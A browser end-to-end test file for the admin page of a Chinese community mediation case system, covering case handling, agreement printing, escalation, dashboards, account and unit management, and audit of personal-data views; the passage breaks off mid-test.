/**
 * The admin page in real Chromium against the real local stack (workers on):
 * sign-in, queue, working a case to 办结, the 调解协议书 print view, a case
 * escalated from another building reaching the community, the dashboard's
 * charts, a phone-sized screen, how conflicts and expired sessions are told,
 * and the admin's screens: accounts, unit import, and who saw whose details.
 * Screenshots go to test-artifacts/.
 */
import { parse } from 'csv-parse/sync';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { browserSuite } from '../support/browser-suite.ts';
import { Outbox } from '../../shared/store/outbox.ts';
import { chromiumAvailable, downloadBy, performAction, screenshot, signIn } from '../support/browser.ts';
import { call, login, waitFor } from '../support/stack.ts';

const CHINA_DAY = (offsetDays: number) => new Date(Date.now() + 8 * 3_600_000 + offsetDays * 86_400_000).toISOString().slice(0, 10);

describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
  const suite = browserSuite({ workers: true, seedCases: true });
  const page = suite.page;

  async function fileCase(body: Record<string, unknown>) {
    const reply = await call(suite.stack, 'POST', '/v1/cases', { body: { source: 'hotline', center: 'mediation', ...body } });
    expect(reply.status, reply.text).toBe(201);
    return reply.body as { id: string; trackingNo: string; version: number };
  }

  async function act(token: string, id: string, action: Record<string, unknown>) {
    const current = await call(suite.stack, 'GET', `/v1/cases/${id}`, { headers: { authorization: `Bearer ${token}` } });
    const reply = await call(suite.stack, 'POST', `/v1/cases/${id}/actions`, {
      body: { expectedVersion: current.body.version, ...action },
      headers: { authorization: `Bearer ${token}` },
    });
    expect(reply.status, reply.text).toBe(200);
    return reply.body;
  }

  it('a 联户长 signs in, finds the new case in the queue, accepts it, records the agreement and resolves it', async () => {
    // 480 characters: more than STATE keeps inline, so the agreement's pre-fill must come from the whole text.
    const description = '楼上卫生间漏水到我家天花板，协商多次未果。'.repeat(23).slice(0, 480);
    const filed = await fileCase({
      title: '楼上漏水纠纷',
      description,
      reporter: { name: '吴先生', phone: '13912340001' },
      location: { unitId: 'hp-xf-yg-1' },
      parties: [
        { name: '吴建华', role: 'applicant', phone: '13912340001' },
        { name: '郑丽', role: 'respondent' },
      ],
    });
    const p = await page();
    await p.goto(`${suite.stack.url}/admin/`);
    await p.getByRole('heading', { name: '矛调通 · 调解工作台' }).waitFor();
    await screenshot(p, 'login');

    await signIn(p, suite.stack.url, 'building-mediator', suite.stack.password);
    const row = p.locator('table.cases tr', { hasText: filed.trackingNo });
    await expect.poll(() => row.count()).toBe(1);
    await expect.poll(() => row.innerText()).toContain('待签收');
    await screenshot(p, 'queue');

    await row.getByRole('link', { name: filed.trackingNo }).click();
    await p.getByRole('heading', { name: '楼上漏水纠纷' }).waitFor();
    await p.locator('details.action-accept > summary').click();
    await p.getByRole('button', { name: '确认签收' }).click();
    await p.getByRole('status').filter({ hasText: '已完成：签收' }).waitFor();
    await p.locator('.badges .status-in_progress').waitFor();

    // The parties' details are masked until asked for; the agreement needs them in full.
    const facts = p.locator('.case-grid section').first();
    expect(await facts.innerText()).toContain('吴**，139****0001');
    expect(await facts.innerText()).not.toContain('13912340001');
    await p.locator('details.action-record_agreement > summary').click();
    await p.getByText('协议书要写入当事人的完整信息').waitFor();
    await p.getByRole('button', { name: '显示', exact: true }).click();
    await expect.poll(() => facts.innerText()).toContain('吴先生，13912340001');
    expect(await facts.innerText()).toContain('已显示完整信息，已记入查阅记录');
    const agreementForm = p.locator('details.action-record_agreement');
    if ((await agreementForm.getAttribute('open')) === null) await agreementForm.locator('summary').click();
    // Pre-filled with the whole description, after the 签收 and the 显示 that came since.
    expect(await p.getByLabel('纠纷主要事实、争议事项').inputValue()).toBe(description);
    await p.getByLabel('协议内容（每行一条）').fill('郑丽负责维修卫生间防水层。\n郑丽赔偿吴建华天花板修复费用人民币一千五百元。');
    await p.getByLabel('履行方式').fill('维修完成后当面付清赔偿款');
    await p.getByLabel('履行期限').fill(CHINA_DAY(30));
    await p.getByRole('button', { name: '确认调解协议书' }).click();
    await p.getByRole('status').filter({ hasText: '已完成：调解协议书' }).waitFor();

    await p.getByRole('link', { name: '查看 / 打印调解协议书' }).click();
    await p.getByRole('heading', { name: '人民调解协议书' }).waitFor();
    const agreement = await p.locator('article.agreement').innerText();
    for (const text of ['申请人：吴建华，联系电话 13912340001', '被申请人：郑丽', '一、郑丽负责维修卫生间防水层', '二、郑丽赔偿', '维修完成后当面付清赔偿款', '幸福社区人民调解委员会（印章）']) {
      expect(agreement).toContain(text);
    }
    // The signature line says 人民调解员 already: the mediator's name alone, not a second post in brackets.
    expect(await p.locator('.signatures p', { hasText: '人民调解员（签名）' }).locator('.sign-name').innerText()).toBe('张桂兰');
    await p.emulateMedia({ media: 'print' });
    expect(await p.getByRole('button', { name: '打印' }).isVisible()).toBe(false);
    await screenshot(p, 'agreement-print');
    await p.emulateMedia({ media: 'screen' });

    await p.getByRole('link', { name: '← 返回案件' }).click();
    await p.locator('details.action-resolve > summary').click();
    await p.getByLabel('结果').selectOption({ label: '已化解' });
    await p.getByLabel('办理情况').fill('双方签订调解协议，楼上已维修。');
    await p.getByRole('button', { name: '确认办结' }).click();
    await p.locator('.badges .status-resolved').waitFor();
    await expect.poll(() => p.locator('ol.timeline').innerText()).toContain('办结（已化解）');
    await screenshot(p, 'case-detail');

    const stored = await call(suite.stack, 'GET', `/v1/cases/${filed.id}`);
    expect(stored.body).toMatchObject({ status: 'resolved', resolution: { outcome: 'resolved' }, agreement: { terms: [expect.any(String), expect.any(String)] } });
    // A whole journey through a dozen screens: ~20 s alone, past 30 s when the fault shards share the machine.
  }, 90_000);

  it('the community mediator finds a case escalated from another building, in the queue and the subtree view, and opens it', async () => {
    const admin = await login(suite.stack, 'admin');
    const created = await call(suite.stack, 'POST', '/v1/users', {
      body: { username: 'yg2-liaison', displayName: '2栋联户长', role: 'liaison', unitId: 'hp-xf-yg-2', password: 'building2-pass' },
      headers: { authorization: `Bearer ${admin}` },
    });
    expect(created.status, created.text).toBe(201);
    const filed = await fileCase({
      title: '2栋邻里噪音纠纷',
      description: '2栋楼上住户深夜播放音乐，多次劝说无效。',
      reporter: { name: '孙女士', phone: '13912340002' },
      location: { unitId: 'hp-xf-yg-2' },
    });
    const levelOf = async (level: string) => ((await call(suite.stack, 'GET', `/v1/cases/${filed.id}`)).body.level === level ? true : undefined);
    const liaison = await call(suite.stack, 'POST', '/v1/auth/login', { body: { username: 'yg2-liaison', password: 'building2-pass' }, key: null });
    await act(liaison.body.token, filed.id, { type: 'escalate', reason: '涉及多户，楼栋无法协调' });
    await waitFor('the compound to receive it', () => levelOf('compound'));
    await act(await login(suite.stack, 'compound-mediator'), filed.id, { type: 'escalate', reason: '需社区调委会出面' });
    await waitFor('the community to receive it', () => levelOf('community'));

    const p = await page();
    await signIn(p, suite.stack.url, 'community-mediator', suite.stack.password);
    await expect.poll(() => p.locator('table.cases').innerText()).toContain(filed.trackingNo);

    await p.getByRole('link', { name: '辖区案件' }).click();
    await p.getByRole('heading', { name: '辖区案件' }).waitFor();
    await p.getByLabel('层级').selectOption({ label: '社区' });
    await p.getByLabel('状态').selectOption({ label: '未办结' });
    await p.getByRole('button', { name: '筛选' }).click();
    await expect.poll(() => p.url()).toContain('level=community');
    const row = p.locator('table.cases tr', { hasText: filed.trackingNo });
    await expect.poll(() => row.count()).toBe(1);
    expect(await row.innerText()).toContain('幸福社区');
    await screenshot(p, 'subtree');

    await row.getByRole('link', { name: filed.trackingNo }).click();
    await p.getByRole('heading', { name: '2栋邻里噪音纠纷' }).waitFor();
    const timeline = await p.locator('ol.timeline').innerText();
    expect(timeline).toContain('升级至和平街道 幸福社区 阳光小区（无法化解，申请上报）');
    expect(timeline).toContain('升级至和平街道 幸福社区（无法化解，申请上报）');
    expect(timeline).toContain('2栋联户长');
    // At its own unit the community may work it; 延期审批 and 重新办理 belong to the level above.
    await p.locator('details.action-accept > summary').waitFor();
    expect(await p.locator('details.action-extend_decide, details.action-reopen').count()).toBe(0);
  }, 60_000);

  it('the dashboard draws its charts from GET /v1/stats and shows the rates with their fractions', async () => {
    const p = await page();
    await signIn(p, suite.stack.url, 'township-mediator', suite.stack.password);
    const statsReply = p.waitForResponse((r) => r.url().includes('/v1/stats'));
    await p.getByRole('link', { name: '统计' }).click();
    const stats = await (await statsReply).json();
    expect(stats.total).toBeGreaterThan(0);

    // Drawn in the page by uPlot on a canvas; what each chart says is its accessible name.
    await expect.poll(() => p.locator('.chart canvas').count()).toBe(5);
    const byCentreChart = p.locator('figure', { hasText: '按中心' }).locator('.chart');
    const box = await byCentreChart.locator('canvas').boundingBox();
    expect(box!.width).toBeGreaterThan(200);
    expect(box!.height).toBeGreaterThan(100);
    // The canvas holds drawn pixels (bars), not a blank surface.
    const inked = await byCentreChart.locator('canvas').evaluate((c) => {
      const canvas = c as HTMLCanvasElement;
      const data = canvas.getContext('2d')!.getImageData(0, 0, canvas.width, canvas.height).data;
      let n = 0;
      for (let i = 3; i < data.length; i += 4) if (data[i]! > 0) n++;
      return n;
    });
    expect(inked).toBeGreaterThan(1000);

    const rate = p.locator('[data-rate="化解率"]');
    expect(await rate.locator('.rate-ratio').innerText()).toBe(`${stats.resolutionRate.numerator} / ${stats.resolutionRate.denominator}`);
    const byCenter = p.locator('figure', { hasText: '按中心' }).locator('table.data');
    expect(await byCenter.locator('tr', { hasText: '民事调解' }).locator('td').textContent()).toBe(String(stats.byCenter.mediation));
    expect(await byCentreChart.getAttribute('aria-label')).toContain(`民事调解 ${stats.byCenter.mediation}`);
    await screenshot(p, 'dashboard');

    // 各下级单位: a row per community, and a click goes down to that community's own figures.
    const xf = stats.byChild.find((r: { unitId: string }) => r.unitId === 'hp-xf');
    const row = p.locator('table.by-child tr[data-unit="hp-xf"]');
    expect((await row.locator('td').allInnerTexts())[0]).toBe(String(xf.total));
    expect(stats.catchingUp).toBe(false);
    expect(await p.locator('[data-catching-up]').count()).toBe(0);
    // The community's reply as the API gives it behind a backlog of the relay: the page says the figures lag.
    await p.route(
      (url) => url.pathname === '/v1/stats' && url.searchParams.get('unitId') === 'hp-xf',
      async (route) => {
        const response = await route.fetch();
        await route.fulfill({ response, json: { ...(await response.json()), catchingUp: true } });
      },
    );
    const drill = p.waitForResponse((r) => r.url().includes('/v1/stats') && r.url().includes('unitId=hp-xf'));
    await row.getByRole('link', { name: '幸福社区' }).click();
    const community = await (await drill).json();
    expect(community.total).toBe(xf.total);
    await p.locator('table.by-child tr[data-unit="hp-xf-yg"]').waitFor();
    expect(await p.locator('[data-catching-up]').innerText()).toContain('仍在计入');
  });

  it('every action form sends a body the API accepts, and offers only what the role and state allow', async () => {
    const actions = (p: Page) => p.locator('details.action').evaluateAll((els) => els.map((e) => e.className.replace('action action-', '')));
    const open = async (p: Page, id: string) => {
      const target = `${suite.stack.url}/admin/#/case/${id}`;
      // The same hash again is no navigation: reload to see what the others did.
      await (p.url() === target ? p.reload() : p.goto(target));
      await p.locator('ol.timeline').waitFor();
    };

    const a = await fileCase({ center: 'voice', description: '小区健身器材损坏，两户为维修费用争执。', reporter: { phone: '13912340010' }, location: { unitId: 'hp-xf-yg' } });
    const compound = await page();
    await signIn(compound, suite.stack.url, 'compound-mediator', suite.stack.password);
    await open(compound, a.id);
    expect(await actions(compound)).toEqual(['accept', 'note', 'contact', 'dispatch', 'escalate', 'extend_request', 'add_party', 'schedule_session', 'record_agreement', 'merge', 'withdraw', 'reclassify', 'set_fields', 'locate', 'flag_risk']);
    await performAction(compound, 'accept');
    await performAction(compound, 'note', async (f) => {
      await f.getByLabel('公开答复（群众查询可见）').check();
      await f.getByLabel('内容').fill('已安排物业查看器材。');
    });
    await performAction(compound, 'contact', async (f) => {
      await f.getByLabel('方式').selectOption({ label: '走访' });
      await f.getByLabel('联系情况').fill('上门了解双方诉求。');
    });
    for (const [name, role, phone] of [['钱一', '申请人', '13912340011'], ['孙二', '被申请人', '']] as const) {
      await performAction(compound, 'add_party', async (f) => {
        await f.getByLabel('姓名 / 名称').fill(name);
        await f.getByRole('combobox', { name: '身份' }).selectOption({ label: role });
        if (phone) await f.getByLabel('电话').fill(phone);
      });
    }
    await performAction(compound, 'schedule_session', (f) => f.getByLabel('时间').fill(`${CHINA_DAY(1)}T10:00`));
    await performAction(compound, 'record_minutes', (f) => f.getByLabel('调解笔录').fill('双方陈述各自理由，同意共同承担维修费。'));
    // A party has a phone: the agreement is made from their details in full, so the page asks for them first.
    await compound.getByRole('button', { name: '显示', exact: true }).click();
    await compound.getByText('已显示完整信息').waitFor();
    await performAction(compound, 'record_agreement', async (f) => {
      await f.getByLabel('协议内容（每行一条）').fill('双方各承担一半维修费用。');
      await f.getByLabel('履行方式').fill('现金支付');
      await f.getByLabel('履行期限').fill(CHINA_DAY(7));
    });
    await performAction(compound, 'reclassify', (f) => f.getByLabel('改为').selectOption({ label: '民事调解' }));
    await performAction(compound, 'flag_risk', (f) => f.getByLabel('风险等级').selectOption({ label: '黄色' }));
    await performAction(compound, 'locate', (f) => f.getByLabel('详细地址').fill('阳光小区中心花园'));
    const due = (await call(suite.stack, 'GET', `/v1/cases/${a.id}`)).body.resolveDueAt as string;
    const until = new Date(Date.parse(due) + 86_400_000 + 8 * 3_600_000).toISOString().slice(0, 16);
    await performAction(compound, 'extend_request', async (f) => {
      await f.getByLabel('延期至').fill(until);
      await f.getByLabel('延期理由').fill('等待双方筹款');
    });
    expect(await actions(compound)).not.toContain('extend_decide');

    const community = await page();
    await signIn(community, suite.stack.url, 'community-mediator', suite.stack.password);
    await open(community, a.id);
    expect(await actions(community)).toEqual(['note', 'contact', 'extend_decide', 'flag_risk']);
    await performAction(community, 'extend_decide', (f) => f.getByLabel('批准', { exact: true }).check());

    await open(compound, a.id);
    await performAction(compound, 'resolve', async (f) => {
      await f.getByLabel('结果').selectOption({ label: '部分化解' });
      await f.getByLabel('办理情况').fill('器材已修复，费用分担仍有分歧。');
    });
    // 回访 is the level above's: the compound that resolved it is not offered it.
    expect(await actions(compound)).not.toContain('follow_up');
    await open(community, a.id);
    await performAction(community, 'follow_up', (f) => f.getByLabel('基本满意').check());
    await open(compound, a.id);
    await performAction(compound, 'close');
    // Filed away: only its agreement's 履行回访 is left to record (minutes, too, are written while the case is open).
    expect(await actions(compound)).toEqual(['record_performance']);
    await open(community, a.id);
    await performAction(community, 'reopen', (f) => f.getByLabel('重新办理的原因').fill('群众反映费用问题未解决'));

    // Dispatch down, return, escalate; a volunteer declines; merge and withdraw.
    const b = await fileCase({ center: 'voice', description: '3栋门口垃圾无人清运。', reporter: { phone: '13912340012' }, location: { unitId: 'hp-xf-yg' } });
    await open(compound, b.id);
    await performAction(compound, 'dispatch', (f) => f.getByLabel('派往').selectOption({ label: '和平街道 幸福社区 阳光小区 1栋' }));
    const building = await page();
    await signIn(building, suite.stack.url, 'building-mediator', suite.stack.password);
    await open(building, b.id);
    await performAction(building, 'return', (f) => f.getByLabel('退回原因（如不属于本单位管辖）').fill('不在本栋'));
    await open(compound, b.id);
    await performAction(compound, 'escalate', (f) => f.getByLabel('上报理由').fill('需社区协调环卫'));

    const c = await fileCase({ center: 'welfare', description: '独居老人需要每周上门探访。', reporter: { phone: '13912340013' }, location: { unitId: 'hp-xf' } });
    await open(community, c.id);
    await performAction(community, 'dispatch', (f) => f.getByLabel('派往').selectOption({ label: '刘洋（党员志愿者）' }));
    const volunteer = await page();
    await signIn(volunteer, suite.stack.url, 'volunteer', suite.stack.password);
    await open(volunteer, c.id);
    expect(await actions(volunteer)).toEqual(['accept', 'decline']);
    await performAction(volunteer, 'decline', (f) => f.getByLabel('谢绝原因').fill('本周不在本地'));
    // Declined, the task is no longer theirs: the page goes back to their queue, where it is gone.
    await volunteer.getByRole('heading', { name: '我的待办' }).waitFor();
    expect(await volunteer.locator('table.cases', { hasText: c.trackingNo }).count()).toBe(0);
    expect(await actions(volunteer)).toEqual([]);

    const d = await fileCase({ center: 'welfare', description: '同一位老人的探访需求（重复反映）。', reporter: { phone: '13912340014' }, location: { unitId: 'hp-xf' } });
    await open(community, d.id);
    await performAction(community, 'merge', (f) => f.getByLabel('并入的案件 ID').fill(c.id));
    expect(await actions(community)).toEqual([]);
    const e = await fileCase({ center: 'guidance', description: '咨询老年证办理，已自行解决。', reporter: { phone: '13912340015' }, location: { unitId: 'hp-xf' } });
    await open(community, e.id);
    await performAction(community, 'withdraw', (f) => f.getByLabel('撤回原因（如群众主动撤回）').fill('群众来电撤回'));

    // Read as the township's officer: the hotline that filed them is not shown the minutes.
    const officer = { headers: { authorization: `Bearer ${await login(suite.stack, 'township-mediator')}` } };
    const states = await Promise.all([a, b, c, d, e].map(async (x) => (await call(suite.stack, 'GET', `/v1/cases/${x.id}`, officer)).body));
    expect(states.map((s) => s.status)).toEqual(['pending', 'pending', 'pending', 'merged', 'withdrawn']);
    expect(states[0]).toMatchObject({ center: 'mediation', risk: { level: 'yellow' }, location: { address: '阳光小区中心花园' } });
    // Reopened: no current satisfaction until the next resolution is followed up (the 回访 still counts in the figures).
    expect(states[0].followUp).toBeUndefined();
    expect(states[0].sessions[0].minutes).toContain('共同承担');
    await waitFor('the escalated case to reach the community', async () =>
      (await call(suite.stack, 'GET', `/v1/cases/${b.id}`)).body.unitId === 'hp-xf' ? true : undefined,
    );
  }, 90_000);

  it('on a 375-pixel phone the queue is a stack of cards with nothing to scroll sideways', async () => {
    const p = await page({ viewport: { width: 375, height: 812 }, deviceScaleFactor: 2, isMobile: true, hasTouch: true });
    await signIn(p, suite.stack.url, 'building-mediator', suite.stack.password);
    await p.locator('table.cases tbody tr').first().waitFor();
    expect(await p.locator('table.cases tbody tr').first().evaluate((tr) => getComputedStyle(tr).display)).toBe('block');
    expect(await p.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(375);
    await screenshot(p, 'queue-phone');
    await p.locator('table.cases tbody tr a').first().click();
    await p.locator('ol.timeline').waitFor();
    expect(await p.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(375);
    await screenshot(p, 'case-phone');
  });

  it('says so in Chinese when someone else changed the case, and shows the new state', async () => {
    const filed = await fileCase({ description: '小区门口占道经营，影响通行。', reporter: { phone: '13912340003' }, location: { unitId: 'hp-xf-yg-1' }, center: 'voice' });
    const p = await page();
    await signIn(p, suite.stack.url, 'building-mediator', suite.stack.password);
    await p.goto(`${suite.stack.url}/admin/#/case/${filed.id}`);
    await p.locator('details.action-accept > summary').click();
    await act(await login(suite.stack, 'building-mediator'), filed.id, { type: 'note', visibility: 'internal', text: '同事已电话联系' });

    suite.allowConsoleErrors(/status of 409/);
    await p.getByRole('button', { name: '确认签收' }).click();
    await p.getByRole('alert').filter({ hasText: '该案件刚被他人修改' }).waitFor();
    await expect.poll(() => p.locator('ol.timeline').innerText()).toContain('内部备注：同事已电话联系');
    // The case is still pending: the reloaded page offers 签收 again.
    await p.locator('details.action-accept > summary').waitFor();
  });

  it('a 签收 whose answer is lost on the way back is retried with the same Idempotency-Key and applied once', async () => {
    const filed = await fileCase({ description: '楼道堆放杂物，影响消防通道。', reporter: { phone: '13912340005' }, location: { unitId: 'hp-xf-yg-1' }, center: 'voice' });
    const p = await page();
    await signIn(p, suite.stack.url, 'building-mediator', suite.stack.password);
    await p.goto(`${suite.stack.url}/admin/#/case/${filed.id}`);
    const keys: string[] = [];
    let lost = false;
    // The first submit reaches the server and is applied, but its answer never reaches the page.
    await p.route('**/v1/cases/*/actions', async (route) => {
      keys.push(route.request().headers()['idempotency-key'] ?? '');
      if (lost) return route.continue();
      lost = true;
      await route.fetch();
      await route.abort('connectionreset');
    });
    suite.allowConsoleErrors(/ERR_CONNECTION_RESET|net::/);
    await p.locator('details.action-accept > summary').click();
    await p.getByRole('button', { name: '确认签收' }).click();
    await p.getByText('已完成：签收').waitFor();
    expect(keys).toHaveLength(2);
    expect(keys[0]).toMatch(/^[\x21-\x7e]{1,128}$/);
    expect(keys[1]).toBe(keys[0]);
    const events = await call(suite.stack, 'GET', `/v1/cases/${filed.id}/events`);
    expect(events.body.items.map((e: { type: string }) => e.type)).toEqual(['received', 'accepted']);
  });

  it('asks to sign in again, over the page, when the token is refused', async () => {
    const p = await page();
    await signIn(p, suite.stack.url, 'building-mediator', suite.stack.password);
    await p.evaluate(() => {
      const key = 'maodiaotong.session';
      const session = JSON.parse(localStorage.getItem(key) ?? '{}') as { expiresAt: string };
      localStorage.setItem(key, JSON.stringify({ ...session, token: 'not-a-token' }));
    });
    suite.allowConsoleErrors(/status of 401/);
    await p.getByRole('button', { name: '刷新' }).click();
    const dialog = p.getByRole('dialog', { name: '请重新登录' });
    await dialog.getByText('登录已过期，请重新登录').waitFor();
    expect(await dialog.getByLabel('用户名').inputValue()).toBe('building-mediator');
    expect(await p.evaluate(() => localStorage.getItem('maodiaotong.session'))).toBeNull();
    await dialog.getByLabel('密码').fill(suite.stack.password);
    await dialog.getByRole('button', { name: '登录' }).click();
    await dialog.waitFor({ state: 'detached' });
    await p.getByRole('heading', { name: '我的待办' }).waitFor();
  });

  it('an admin creates an account for a new 联户长, moves it to another building and disables it', async () => {
    const p = await page();
    await signIn(p, suite.stack.url, 'admin', suite.stack.password);
    await p.getByRole('link', { name: '管理' }).click();
    await p.getByRole('heading', { name: '管理' }).waitFor();

    await p.locator('details.new-account > summary').click();
    const form = p.locator('details.new-account form');
    await form.getByLabel('用户名').fill('liaison-yg2');
    await form.getByLabel('姓名').fill('孙红（联户长）');
    await form.getByLabel('角色').selectOption({ label: '联户长' });
    await form.getByLabel('所在单位').selectOption('hp-xf-yg-2');
    await form.getByLabel('手机').fill('13800000002');
    await form.getByLabel('初始密码').fill('sun-hong-2026');
    await form.getByRole('button', { name: '创建账号' }).click();
    await p.getByRole('status').filter({ hasText: '已创建账号：孙红（联户长）（liaison-yg2）' }).waitFor();
    const row = p.locator('tr[data-username="liaison-yg2"]');
    await expect.poll(() => row.innerText()).toContain('阳光小区 2栋');
    expect(await row.innerText()).toContain('13800000002');
    const signInAs = (password: string) => call(suite.stack, 'POST', '/v1/auth/login', { body: { username: 'liaison-yg2', password }, key: null });
    expect((await signInAs('sun-hong-2026')).status).toBe(200);

    // The form stays open, emptied, for the next account.
    suite.allowConsoleErrors(/status of 409/);
    expect(await form.getByLabel('用户名').inputValue()).toBe('');
    await form.getByLabel('用户名').fill('liaison-yg2');
    await form.getByLabel('姓名').fill('重名');
    await form.getByLabel('初始密码').fill('whatever-123');
    await form.getByRole('button', { name: '创建账号' }).click();
    await form.getByRole('alert').filter({ hasText: '用户名「liaison-yg2」已被使用' }).waitFor();

    await row.locator('details > summary').click();
    await row.getByLabel('所在单位').selectOption('hp-xf-yg-3');
    await screenshot(p, 'manage-account-edit');
    await row.getByRole('button', { name: '保存修改' }).click();
    await p.getByRole('status').filter({ hasText: '已保存：孙红（联户长）（liaison-yg2）' }).waitFor();
    // The unit cell, not the row: the open form's unit list names 3栋 too, before the list has reloaded.
    await expect.poll(() => row.locator('td[data-label="所在单位"]').innerText()).toContain('阳光小区 3栋');

    // The saved row is drawn afresh (its form closed) once the list reloads; open it until it stays open.
    const details = row.locator('details');
    await expect
      .poll(async () => {
        if ((await details.getAttribute('open')) === null) await details.locator('summary').click();
        return details.getAttribute('open');
      })
      .not.toBeNull();
    await row.getByRole('button', { name: '停用账号' }).click();
    await expect.poll(() => row.innerText()).toContain('已停用');
    expect((await signInAs('sun-hong-2026')).status).toBe(401);
    await screenshot(p, 'manage-accounts');

    // No one disables themselves by mistake.
    const own = p.locator('tr[data-username="admin"]');
    await own.locator('details > summary').click();
    expect(await own.getByRole('button', { name: '停用账号' }).count()).toBe(0);
    const stored = (await call(suite.stack, 'GET', '/v1/users', { headers: { authorization: `Bearer ${await login(suite.stack, 'admin')}` } })).body.items;
    expect(stored.find((a: { username: string }) => a.username === 'liaison-yg2')).toMatchObject({ unitId: 'hp-xf-yg-3', role: 'liaison', disabled: true });
  });

  it('an admin imports a building from a CSV that Excel saved as GBK, exports the units, and a bad CSV changes nothing', async () => {
    const admin = await login(suite.stack, 'admin');
    const unitIds = async () =>
      ((await call(suite.stack, 'GET', '/v1/units', { headers: { authorization: `Bearer ${admin}` } })).body.items as { id: string }[]).map((u) => u.id);
    const before = await unitIds();

    const p = await page();
    await signIn(p, suite.stack.url, 'admin', suite.stack.password);
    await p.goto(`${suite.stack.url}/admin/#/manage/units`);
    await p.locator('tr[data-unit="hp-xf-yg-1"]').waitFor();
    await p.locator('details.unit-import > summary').click();
    // "id,name,level,parentId,contactName,contactPhone / hp-xf-yg-4,4栋,building,hp-xf-yg,联户长 孙红,13800000004" in GBK.
    const gbk = Buffer.from(
      '69642c6e616d652c6c6576656c2c706172656e7449642c636f6e746163744e616d652c636f6e7461637450686f6e650a68702d78662d79672d342c34b6b02c6275696c64696e672c68702d78662d79672cc1aabba7b3a420cbefbaec2c31333830303030303030340a',
      'hex',
    );
    await p.getByLabel('选择文件').setInputFiles({ name: '楼栋.csv', mimeType: 'text/csv', buffer: gbk });
    await expect.poll(() => p.getByLabel('或粘贴内容').inputValue()).toContain('hp-xf-yg-4,4栋,building,hp-xf-yg,联户长 孙红');
    await p.getByRole('button', { name: '检查并预览' }).click();
    await p.locator('.import-preview').filter({ hasText: '将新增 1 个、更新 0 个单位，0 个不变' }).waitFor();
    expect(await p.locator('.import-preview').innerText()).toContain('新增：hp-xf-yg-4');
    // Nothing is written until the admin confirms.
    expect(await unitIds()).toEqual(before);
    await p.getByRole('button', { name: '确认导入' }).click();
    await p.getByRole('status').filter({ hasText: `已导入：新增 1 个、更新 0 个单位，现共有 ${before.length + 1} 个单位` }).waitFor();
    await expect.poll(() => p.locator('tr[data-unit="hp-xf-yg-4"]').innerText()).toContain('联户长 孙红 13800000004');
    expect(await unitIds()).toEqual(expect.arrayContaining([...before, 'hp-xf-yg-4']));

    const { name, text: exported } = await downloadBy(p, p.getByRole('button', { name: /导出现有单位为 CSV/ }));
    expect(name).toBe('units.csv');
    expect(exported.startsWith('\uFEFFid,name,level,parentId,kind,contactName,contactPhone\n')).toBe(true);
    expect(exported).toContain('\nhp-xf-yg-4,4栋,building,hp-xf-yg,,联户长 孙红,13800000004\n');
    expect(exported).toContain('\nhp,和平街道,township,zj,,街道矛调中心,02787000000\n');

    suite.allowConsoleErrors(/status of 400/);
    await p.getByLabel('或粘贴内容').fill('id,name,level,parentId\nhp-xf-yg-5,5栋,building,no-such-compound\n');
    await p.getByRole('button', { name: '检查并预览' }).click();
    const alert = p.locator('details.unit-import').getByRole('alert');
    await alert.filter({ hasText: '填写的内容有误' }).waitFor();
    // The sheet's own line and column, in Chinese.
    expect(await alert.innerText()).toContain('第 2 行「parentId」：「no-such-compound」不存在');
    expect(await p.getByRole('status').count()).toBe(0);
    const after = await unitIds();
    expect(after).toHaveLength(before.length + 1);
    expect(after).not.toContain('hp-xf-yg-5');
    await screenshot(p, 'manage-units');
  });

  it('a 矛调中心 officer sees who viewed a reporter\'s details; a 联户长 has no such panel', async () => {
    const filed = await fileCase({ description: '邻居装修噪音扰民，晚上十点后仍施工。', reporter: { name: '钱女士', phone: '13912340021' }, location: { unitId: 'hp-xf-yg-1' } });
    const liaison = await page();
    await signIn(liaison, suite.stack.url, 'building-mediator', suite.stack.password);
    await liaison.goto(`${suite.stack.url}/admin/#/case/${filed.id}`);
    await liaison.locator('ol.timeline').waitFor();
    expect(await liaison.locator('details.audit-panel').count()).toBe(0);
    // Masked until 显示: only that is recorded.
    expect(await liaison.locator('.case-grid').innerText()).toContain('钱**，139****0021');
    await liaison.getByRole('button', { name: '显示', exact: true }).click();
    await expect.poll(() => liaison.locator('.case-grid').innerText()).toContain('钱女士，13912340021');

    const p = await page();
    await signIn(p, suite.stack.url, 'township-mediator', suite.stack.password);
    await p.goto(`${suite.stack.url}/admin/#/case/${filed.id}`);
    await p.locator('details.audit-panel > summary').click();
    const trail = p.locator('ol.audit');
    await expect.poll(() => trail.locator('li').count()).toBe(1);
    await p.getByRole('button', { name: '显示', exact: true }).click();
    await p.getByText('已显示完整信息').waitFor();
    await p.locator('details.audit-panel > summary').click();
    await p.locator('details.audit-panel > summary').click();
    await expect.poll(() => trail.locator('li').count()).toBe(2);
    const text = await trail.innerText();
    expect(text).toContain('building-mediator（联户长 · 1栋）');
    expect(text).toContain('township-mediator（矛调中心工作人员 · 和平街道）');
    expect(text).toContain('查看了反映人和当事人的完整信息');
    await screenshot(p, 'case-audit');
  });

  it('the header box finds a case by its number and a caller\'s cases by phone', async () => {
    const first = await fileCase({ title: '停车位被长期占用', description: '小区停车位被长期占用。', reporter: { name: '冯先生', phone: '13912340031' }, location: { unitId: 'hp-xf-yg-2' } });
    const second = await fileCase({ center: 'welfare', description: '申请临时救助。', reporter: { phone: '13912340031' }, location: { unitId: 'hp-hx-jy-1' } });
    const p = await page();
    await signIn(p, suite.stack.url, 'community-mediator', suite.stack.password);
    const box = p.getByRole('searchbox', { name: '按编号、电话、工单号或关键词查找案件' });

    await box.fill(first.trackingNo.toLowerCase());
    await box.press('Enter');
    await p.getByRole('heading', { name: '停车位被长期占用' }).waitFor();
    expect(p.url()).toContain(`#/case/${first.trackingNo}`);

    await box.fill('139 1234 0031');
    await p.getByRole('search').getByRole('button', { name: '查找' }).click();
    await p.getByRole('heading', { name: '来电查找：13912340031' }).waitFor();
    const rows = p.locator('table.cases tbody tr');
    await expect.poll(() => rows.count()).toBe(1);
    // The second case is in 和谐社区, outside a 幸福社区 mediator's jurisdiction.
    expect(await rows.first().innerText()).toContain(first.trackingNo);
    expect(await p.locator('table.cases').innerText()).not.toContain(second.trackingNo);
    await screenshot(p, 'search-phone');

    // Words search the titles and descriptions in the jurisdiction.
    await box.fill('停车位');
    await box.press('Enter');
    await p.getByRole('heading', { name: '查找：停车位' }).waitFor();
